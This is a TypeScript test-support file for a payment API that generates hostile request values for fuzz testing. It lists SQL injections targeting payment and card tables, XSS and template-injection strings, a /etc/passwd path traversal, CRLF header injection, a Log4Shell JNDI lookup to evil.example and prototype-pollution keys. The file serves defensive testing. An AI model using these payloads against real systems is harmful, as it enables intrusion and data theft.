import fc from 'fast-check';

import { MAX_JSON_DEPTH, MAX_JSON_NODES } from '../../../src/antom/requests/json-shape';
import { scanText } from '../../support/leak-scanner';

/** A JSON fragment sent verbatim: numbers JSON.stringify would rewrite, nesting it would overflow on. */
export class Raw {
  constructor(
    readonly text: string,
    readonly label: string = text.slice(0, 40),
  ) {}
}

/** JSON.stringify with `Raw` fragments spliced in as written. */
export function serialize(value: unknown): string {
  const raws: string[] = [];
  const json = JSON.stringify(value, (_k, v: unknown) => (v instanceof Raw ? `@@RAW${raws.push(v.text) - 1}@@` : v));
  return (json ?? 'null').replace(/"@@RAW(\d+)@@"/g, (_m, i: string) => raws[Number(i)]);
}

export const SQL_INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE payment; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5); --',
  "' UNION SELECT pan_enc, wrapped_dek FROM card --",
  "\\'; DELETE FROM merchant WHERE '1'='1",
  '$$; DROP TABLE card; $$',
  "%' AND 1=0 UNION ALL SELECT NULL--",
];

export const SCRIPT_INJECTIONS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '\r\nX-Injected: 1',
  '${jndi:ldap://evil.example/a}',
];

/** Storable Unicode that must round-trip unchanged. */
export const UNICODE_STORABLE = [
  '\u202Eevil\u202C', // right-to-left override
  'שלום مرحبا', // RTL scripts
  'a\u200Bb\u200C\u200D\uFEFF', // zero-width space, joiners, BOM
  '😀👩‍👩‍👧‍👦🏳️‍🌈', // astral plane, ZWJ sequences
  'e\u0301\u0301\u0301', // combining marks
  'Ω≈ç√∫˜µ≤≥÷',
  '\u0007\u001b[31m\u007f', // control characters (storable, JSON-escaped on output)
  '\u2028\u2029', // JS line separators
];

/** Unicode that cannot be stored as PostgreSQL UTF-8 text: must be refused, not crash. */
export const UNICODE_UNSTORABLE = ['a\u0000b', 'a\ud800', '\udc00z', '\udfff\ud800'];

/** Numbers as they appear on the wire (JSON.stringify would turn 1e309 into null and lose digits). */
export const RAW_NUMBERS = [
  '1e309',
  '-1e309',
  '-0',
  '0',
  '-1',
  '9007199254740993',
  '-9007199254740993',
  '9223372036854775808',
  '123456789012345678901234567890',
  '1.5',
  '0.1',
  '1e2',
  '1E-7',
  '4.9e-324',
  '0.0',
  '100.00',
];

const BOUNDARY_STRINGS = [
  '',
  ' ',
  '0',
  '-1',
  '00',
  '1.5',
  '1e3',
  '+100',
  ' 100',
  '100 ',
  '0x10',
  '١٢٣',
  'NaN',
  'Infinity',
  'null',
  'true',
  '9007199254740993',
  '9223372036854775808',
  '99999999999999999999',
  '-9223372036854775809',
  'CASHIER_PAYMENT ',
  'card',
  'eur',
  'EU',
  'EURO',
  'XXX',
  '2020-02-30T25:61:61Z',
];

/**
 * One character past each @MaxLength the request DTOs use (32, 64, 128, 256, 2048), and one string far past
 * all of them that still fits the body limit: sizes just past a limit prove it as well as sizes far past.
 */
const OVERSIZE = [33, 65, 129, 257, 2049, 70_000].map((n) => 'x'.repeat(n));

const nested = (depth: number, open: string, close: string) =>
  new Raw(open.repeat(depth) + '1'.repeat(open === '{"a":' ? 1 : 0) + close.repeat(depth), `nesting ${depth} ${open}`);

/** Just past MAX_JSON_DEPTH (32) wherever it is set, and one absurd depth (what recursion would overflow on). */
export const DEEP_NESTING = [MAX_JSON_DEPTH + 1, 10_000].flatMap((d) => [nested(d, '[', ']'), nested(d, '{"a":', '}')]);

/** Just past @ArrayMaxSize(100), and just past MAX_JSON_NODES (10,000 values in a body). */
export const HUGE_ARRAYS = [101, MAX_JSON_NODES + 1].map((n) => new Raw(`[${new Array(n).fill('0').join(',')}]`, `array of ${n}`));

const DUPLICATE_KEYS = [
  new Raw('{"currency":"EUR","value":"100","value":"-5"}', 'duplicate value key'),
  new Raw('{"a":1,"a":{"b":2},"a":[3]}', 'triple duplicate key'),
  new Raw('{"__proto__":{"polluted":true}}', '__proto__ key'),
  new Raw('{"constructor":{"prototype":{"polluted":true}}}', 'constructor.prototype key'),
];

/** Any UTF-16 code unit, lone surrogates included. */
const anyCodeUnit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

/**
 * Nothing generated may look like card data (e.g. '-9223372036854775809' is a Luhn-valid 19-digit run):
 * fields are echoed and stored, and the end-of-run leak scan would rightly flag them.
 */
const notCardLike = (v: unknown) => scanText('generated', serialize(v)).length === 0;

const WRONG_TYPES: unknown[] = [null, true, false, 0, -1, 1.5, [], {}, [null], { value: 'x' }, ['EUR']];

/**
 * Every listed hostile value, each class whole: the suite sends each of them once per endpoint (one
 * representative per class costs a request, not a lottery), then a random sample of everything below.
 */
export const LISTED_HOSTILE_VALUES: unknown[] = [
  ...WRONG_TYPES,
  ...BOUNDARY_STRINGS,
  ...SQL_INJECTIONS,
  ...SCRIPT_INJECTIONS,
  ...UNICODE_STORABLE,
  ...UNICODE_UNSTORABLE,
  ...RAW_NUMBERS.map((t) => new Raw(t)),
  ...OVERSIZE,
  ...DEEP_NESTING,
  ...HUGE_ARRAYS,
  ...DUPLICATE_KEYS,
].filter((v) => notCardLike(v));

/** One hostile value for a field: wrong type, boundary, oversize, injection, Unicode edge, deep or huge. */
export const hostileValue: fc.Arbitrary<unknown> = fc
  .oneof(
    { weight: 4, arbitrary: fc.constantFrom<unknown>(...WRONG_TYPES) },
    { weight: 4, arbitrary: fc.constantFrom(...BOUNDARY_STRINGS) },
    { weight: 3, arbitrary: fc.constantFrom(...SQL_INJECTIONS, ...SCRIPT_INJECTIONS) },
    { weight: 3, arbitrary: fc.constantFrom(...UNICODE_STORABLE, ...UNICODE_UNSTORABLE) },
    { weight: 3, arbitrary: fc.constantFrom(...RAW_NUMBERS).map((t) => new Raw(t)) },
    { weight: 3, arbitrary: fc.string({ unit: anyCodeUnit, maxLength: 40 }) },
    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
    {
      weight: 2,
      arbitrary: fc.oneof(
        fc.integer(),
        fc.double(),
        fc.bigInt({ min: -(2n ** 70n), max: 2n ** 70n }).map((b) => new Raw(b.toString())),
      ),
    },
    { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
    { weight: 2, arbitrary: fc.constantFrom(...OVERSIZE) },
    { weight: 1, arbitrary: fc.constantFrom(...DEEP_NESTING) },
    { weight: 1, arbitrary: fc.constantFrom(...HUGE_ARRAYS) },
    { weight: 1, arbitrary: fc.constantFrom(...DUPLICATE_KEYS) },
  )
  .filter(notCardLike);

export function describeValue(v: unknown): string {
  if (v instanceof Raw) return `raw(${v.label})`;
  let s: string;
  try {
    s = JSON.stringify(v) ?? String(v);
  } catch {
    s = '[unserialisable value]'; // e.g. a circular structure fast-check generated; only the label is affected
  }
  return s.length > 60 ? `${s.slice(0, 40)}…(${s.length} chars)` : s;
}
